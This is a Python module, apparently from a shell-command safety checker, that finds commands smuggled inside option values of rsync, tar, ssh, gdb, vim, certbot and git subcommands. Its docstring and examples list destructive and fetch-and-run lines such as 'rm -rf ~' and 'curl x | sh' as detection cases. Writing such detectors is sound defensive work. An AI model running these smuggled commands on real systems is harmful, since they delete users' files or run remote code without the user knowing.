"""Options whose value is a command line the program runs: the value is a command, judged as one.

`rsync --rsync-path='rm -rf ~; rsync' host:/x .` hands its value to the remote shell, which runs it in
the remote account's home; `tar -I CMD`, `tar --to-command=CMD`, `sort --compress-program=CMD`, `man -P
CMD`, `zip -TT CMD`, `scp -S CMD`, `rsync -e CMD` and `gdb -ex 'shell CMD'` run their value here, and
`ssh -o RemoteCommand=CMD host` runs it on the host; `npm run --script-shell=CMD` runs its scripts
through it, `mysql --pager=CMD` its output, `git rebase -x CMD` and `git filter-branch --tree-filter
CMD` run it for each commit. An option value that is executed is execution:
it is parsed as the command it is, with the reach of where it runs (this machine, or the host the
program logs in to), exactly as the same line typed bare or given to `ssh host` would be.

Each program's options are data: the option (long spelling, or a getopt letter that may end a
cluster such as `-avze`), where its command runs, and the prefix a value must carry to be a command
(`--checkpoint-action=exec=CMD`; gdb's `shell CMD` and `!CMD`; ssh's `-o Key=CMD`). The everyday values
are commands too, and harmless ones: `rsync -e 'ssh -p 2222'`, `tar -I zstd`, `man -P less`, `ssh -o
ProxyCommand='ssh -W %h:%p bastion'` judge as the ssh, zstd or less they run.
"""

from __future__ import annotations

import itertools
import shlex
from collections.abc import Sequence
from dataclasses import dataclass

from dongle.lazy_regex import lazy_compile

HERE = "here"
REMOTE = "remote"


@dataclass(frozen=True, slots=True)
class Carrier:
    """One option that carries a command: where that command runs, and the prefixes (lower case) a
    value must start with to be one (stripped before the command is read); empty: every value."""

    where: str = HERE
    prefixes: tuple[str, ...] = ()
    # The program hands the command the files it found under its path operands (`git grep -O CMD`
    # runs CMD on every matching file): those operands are appended, as the files within them.
    paths_appended: bool = False
    # The value is only ever glued to the option (`-OCMD`, `--opt=CMD`); a separate word is not it.
    glued: bool = False
    # The value (after its prefix) is code for this interpreter, not a shell line: it is read as the
    # interpreter's inline code (`gdb -ex 'python CODE'` as `python3 -c CODE`).
    interpreter: str = ""


_ANY_HERE = Carrier()
# ssh's `-o Key=VALUE` (or `Key VALUE`) settings that run shell text, and where they run it
_SSH_KEYS = {"proxycommand": HERE, "localcommand": HERE, "remotecommand": REMOTE, "knownhostscommand": HERE}
_SSH_LOCAL_O = Carrier(HERE, tuple(f"{k}{sep}" for k, w in _SSH_KEYS.items() if w == HERE for sep in "= "))
_SSH_REMOTE_O = Carrier(REMOTE, tuple(f"remotecommand{sep}" for sep in "= "))

# Debuggers' and editors' embedded interpreters: `gdb -ex 'python CODE'`, `lldb -o 'script CODE'`,
# `vim -c 'py3 CODE'` run CODE in Python (Lua, Perl, Ruby) inside the program, with the user's rights.
_GDB_PYTHON = Carrier(HERE, ("python-interactive ", "python ", "pi ", "py "), interpreter="python3 -c")
_LLDB_SCRIPT = Carrier(HERE, ("script ",), interpreter="python3 -c")
_VIM_CARRIERS = (Carrier(HERE, (":!", "!")),
                 Carrier(HERE, tuple(f"{colon}{word} " for colon in ("", ":")
                                     for word in ("python3", "python", "pythonx", "py3", "pyx", "py")),
                         interpreter="python3 -c"),
                 Carrier(HERE, ("lua ", ":lua "), interpreter="lua -e"),
                 Carrier(HERE, ("perl ", ":perl "), interpreter="perl -e"),
                 Carrier(HERE, ("ruby ", ":ruby "), interpreter="ruby -e"))

# program -> option -> carrier. A one-letter option is a getopt letter (it may close a cluster:
# `-avze CMD`); a longer one is matched whole, as `--opt VALUE` or `--opt=VALUE`.
CARRIERS: dict[str, dict[str, tuple[Carrier, ...]]] = {
    "rsync": {"--rsync-path": (Carrier(REMOTE),), "-e": (_ANY_HERE,), "--rsh": (_ANY_HERE,)},
    "tar": {"-I": (_ANY_HERE,), "--use-compress-program": (_ANY_HERE,), "--to-command": (_ANY_HERE,),
            "--checkpoint-action": (Carrier(HERE, ("exec=",)),), "--info-script": (_ANY_HERE,),
            "--new-volume-script": (_ANY_HERE,), "-F": (_ANY_HERE,), "--rsh-command": (_ANY_HERE,),
            "--rmt-command": (_ANY_HERE,)},
    "cpio": {"--rsh-command": (_ANY_HERE,)},
    "sort": {"--compress-program": (_ANY_HERE,)},
    "mysql": {"--pager": (_ANY_HERE,)},
    "mariadb": {"--pager": (_ANY_HERE,)},
    "zip": {"-TT": (_ANY_HERE,), "--unzip-command": (_ANY_HERE,)},
    "man": {"-P": (_ANY_HERE,), "--pager": (_ANY_HERE,)},
    "scp": {"-S": (_ANY_HERE,), "-o": (_SSH_LOCAL_O,)},
    "sftp": {"-S": (_ANY_HERE,), "-o": (_SSH_LOCAL_O,)},
    "ssh": {"-o": (_SSH_LOCAL_O, _SSH_REMOTE_O)},
    "npm": {"--script-shell": (_ANY_HERE,)},
    "pnpm": {"--script-shell": (_ANY_HERE,)},
    "gdb": {opt: (Carrier(HERE, ("shell ", "!")), _GDB_PYTHON) for opt in (
        "-ex", "--ex", "-eval-command", "--eval-command", "-iex", "--iex")},
    # certbot's hooks run as shell commands when a certificate is obtained or renewed
    **{certbot: {opt: (_ANY_HERE,) for opt in ("--pre-hook", "--post-hook", "--deploy-hook", "--renew-hook",
                                               "--manual-auth-hook", "--manual-cleanup-hook")}
       for certbot in ("certbot", "certbot-auto", "letsencrypt")},
    "lldb": {opt: (Carrier(HERE, ("platform shell ",)), _LLDB_SCRIPT) for opt in (
        "-o", "--one-line", "-O", "--one-line-before-file", "-k", "--one-line-on-crash")},
    **{vim: {opt: _VIM_CARRIERS for opt in ("-c", "--cmd")}
       for vim in ("vim", "nvim", "vi", "ex", "view", "gvim")},
}
# git's subcommands, read as programs of their own (`git rebase -x CMD`): a word without a dash is
# an operand that starts the command, the rest of the line (`git submodule foreach CMD`).
_FILTERS = ("--tree-filter", "--index-filter", "--msg-filter", "--env-filter", "--commit-filter",
            "--parent-filter", "--tag-name-filter")
CARRIERS.update({
    "git rebase": {"-x": (_ANY_HERE,), "--exec": (_ANY_HERE,)},
    "git difftool": {"-x": (_ANY_HERE,), "--extcmd": (_ANY_HERE,)},
    "git filter-branch": {opt: (_ANY_HERE,) for opt in _FILTERS},
    "git submodule": {"foreach": (_ANY_HERE,)},
    "git grep": {opt: (Carrier(HERE, paths_appended=True, glued=True),)
                 for opt in ("-O", "--open-files-in-pager")},
})
# The names `carried_commands` can find anything for (git by its subcommand): a command of any other
# name is not asked (the shell model tests this first, for every command it records).
CARRYING = frozenset({"git", *CARRIERS})
# git's own options before the subcommand that take the next word as their value
_GIT_VALUED = frozenset({"-c", "-C", "--git-dir", "--work-tree", "--namespace", "--exec-path",
                         "--config-env"})

# Options of those programs that take a value carrying no command (so the value is not an operand).
_VALUED = {
    "rsync": frozenset("BfMT") | {"--exclude", "--include", "--filter", "--port", "--chmod", "--log-file"},
    "tar": frozenset("bCfgHKLNTVX") | {"--directory", "--file", "--exclude", "--owner", "--group"},
    "ssh": frozenset("BbcDEeFIiJLlmOopQRSWw"),
    "scp": frozenset("cDFiJloPSX"),
    "sftp": frozenset("BbcDFiJlopRSs"),
}
_HOST_PATH = lazy_compile(r"^(?:[^@/:\s]+@)?(\[[^\]]+\]|[A-Za-z0-9_.-]+):(?!//)")
_RSYNC_URL = lazy_compile(r"^rsync://(?:[^@/\s]+@)?([^/:\s]+)")

EXAMPLES = {
    "remote": [("rsync -a --rsync-path='rm -rf ~; rsync' web1:/x ./y", "rm -rf ~; rsync", "ssh:web1"),
               ("ssh -o RemoteCommand='sudo reboot' prod-db", "sudo reboot", "ssh:prod-db")],
    "here": [("tar -I 'sh -c \"curl x | sh\"' -xf a.tar", 'sh -c "curl x | sh"'),
             ("rsync -avze 'ssh -p 2222' src/ h:/y", "ssh -p 2222"),
             ("tar --checkpoint=1 --checkpoint-action=exec='rm -rf ~' -cf a.tar d", "rm -rf ~"),
             ("gdb -batch -ex 'shell rm -rf ~'", "rm -rf ~"),
             ("gdb -batch -ex 'python import shutil'", "python3 -c 'import shutil'"),
             ("lldb -b -o 'script print(1)'", "python3 -c 'print(1)'"),
             ("certbot renew --deploy-hook 'systemctl reload nginx'", "systemctl reload nginx"),
             ("vim -es -c 'lua os.remove(\"x\")' -c q", "lua -e 'os.remove(\"x\")'"),
             ("git -C repo rebase -x 'make test' HEAD~3", "make test"),
             ("git submodule foreach git pull", "git pull"),
             ("git grep -O'rm -f' -l TODO -- src", "rm -f src 'src/*'")],
    "none": ["tar --checkpoint-action=dot -cf a.tar d", "gdb -batch -ex 'bt' ./a.out", "rsync -a src/ dst/",
             "ssh -o StrictHostKeyChecking=no h", "man ls",
             "git rebase -i HEAD~3", "git submodule update --init", "git grep -O TODO"],
}


def carried_commands(name: str, argv: Sequence[str]) -> list[tuple[str, str, str | None]]:
    """(route, command text, host) for each option value of `name argv` that is a command it runs:
    the route names it (`rsync --rsync-path`, `ssh ProxyCommand`); host is None for this machine,
    else the host the program logs in to ("" when it cannot be told)."""
    if name == "git":
        name, argv = _git_subcommand(argv)
    options = CARRIERS.get(name)
    if options is None:
        return []
    found: list[tuple[str, str, str]] = []
    for option, value, glued in _option_values(argv, options, _VALUED.get(name, frozenset())):
        for carrier in options[option]:
            if carrier.glued and not glued:
                continue
            key, text = _command_of(value, carrier)
            if text and carrier.interpreter:
                text = f"{carrier.interpreter} {shlex.quote(text)}"
            if text and carrier.paths_appended:
                text = " ".join((text, *map(shlex.quote, _path_operands(argv))))
            if text:
                found.append((f"{name} {key or option}", text, carrier.where))
    if not found:
        return []
    host = _remote_host(name, argv) if any(where == REMOTE for _, _, where in found) else ""
    return [(route, text, host if where == REMOTE else None) for route, text, where in found]


def _git_subcommand(argv: Sequence[str]) -> tuple[str, Sequence[str]]:
    """`git -C repo rebase -x CMD` -> ("git rebase", argv from `rebase` on)."""
    i = 1
    while i < len(argv) and argv[i].startswith("-"):
        i += 2 if argv[i] in _GIT_VALUED else 1
    return (f"git {argv[i]}", argv[i:]) if i < len(argv) else ("git", argv)


def _path_operands(argv: Sequence[str]) -> list[str]:
    """The paths after `--` that a search is limited to (`git grep … -- src docs`), or the working
    directory when it names none, each as itself (a file) and as what lies within it (a directory):
    the files handed on are among them."""
    paths = [a for a in argv[argv.index("--") + 1:] if a] if "--" in argv else []
    out = []
    for path in paths or ["."]:
        if path != ".":
            out.append(path)
        if not any(ch in path for ch in "*?["):
            out.append(f"{path.rstrip('/')}/*")
    return out


def _command_of(value: str, carrier: Carrier) -> tuple[str, str]:
    """(the key the value names, if any, e.g. `ProxyCommand`; the command in it), or a command of ""
    when the value does not carry one for this carrier."""
    if not carrier.prefixes:
        return "", value.strip()
    low = value.lower()
    for prefix in carrier.prefixes:
        if low.startswith(prefix):
            return value[:len(prefix)].strip("= ") or prefix, value[len(prefix):].strip()
    return "", ""


def _option_values(argv: Sequence[str], options: dict[str, tuple[Carrier, ...]],
                   valued: frozenset[str]) -> list[tuple[str, str, bool]]:
    """(option, value, whether the value was glued to it) for each carrying option in argv, in
    getopt's reading of clusters and `--opt=value`; an option left without its value carries nothing."""
    found: list[tuple[str, str, bool]] = []
    i = 1
    while i < len(argv):
        word = argv[i]
        i += 1
        if word == "--":
            break
        if not word.startswith("-") or word == "-":
            if word in options:  # `submodule foreach CMD…`: the rest of the line is the command
                rest = list(itertools.dropwhile(lambda w: w.startswith("-"), argv[i:]))  # (`--recursive`)
                found.append((word, " ".join(rest), False))
                break
            continue
        key, eq, inline = word.partition("=")
        if key in options and (len(key) > 2 or not eq):  # `--rsh=CMD`, `-ex CMD`, `-e CMD`
            if eq:
                found.append((key, inline, True))
            elif i < len(argv):
                found.append((key, argv[i], False))
                i += 1
            continue
        if word.startswith("--") or len(word) < 2:
            if key in valued and not eq:
                i += 1
            continue
        for k, letter in enumerate(word[1:], start=1):  # a getopt cluster: `-avze CMD`, `-Izstd`
            flag = "-" + letter
            if flag in options or letter in valued:
                rest = word[k + 1:]
                value = rest if rest else (argv[i] if i < len(argv) else "")
                if not rest:
                    i += 1
                if flag in options and value:
                    found.append((flag, value, bool(rest)))
                break
    return found


def _remote_host(name: str, argv: Sequence[str]) -> str:
    """The host a remote-carried command runs on: ssh's first operand, rsync's `host:path` or
    `rsync://host/` operand ("" when none can be told)."""
    valued = _VALUED.get(name, frozenset())
    i = 1
    while i < len(argv):
        word = argv[i]
        i += 1
        if word.startswith("-") and word != "-":
            if (word[1:] in valued or word in valued) and "=" not in word:
                i += 1
            continue
        if name == "ssh":
            return word.rpartition("@")[2]
        match = _HOST_PATH.match(word) or _RSYNC_URL.match(word)
        if match:
            return match.group(1).strip("[]")
    return ""


def remote_options_folded(argv: Sequence[str]) -> list[str] | None:
    """`rsync -M--delete …`, `rsync --remote-option=--delete …`: an option rsync hands the rsync at the
    other end acts there as if given on the line (a delete deletes, a path runs), so it is read as one
    of the line's own options. None when the line hands on none."""
    folded: list[str] = []
    changed = False
    i = 0
    while i < len(argv):
        word = argv[i]
        if word in ("-M", "--remote-option") and i + 1 < len(argv):
            folded.append(argv[i + 1])
            changed, i = True, i + 2
            continue
        if word.startswith("--remote-option="):
            folded.append(word.partition("=")[2])
            changed = True
        elif word.startswith("-M") and len(word) > 2 and not word.startswith("--"):
            folded.append(word[2:])
            changed = True
        else:
            folded.append(word)
        i += 1
    return folded if changed else None

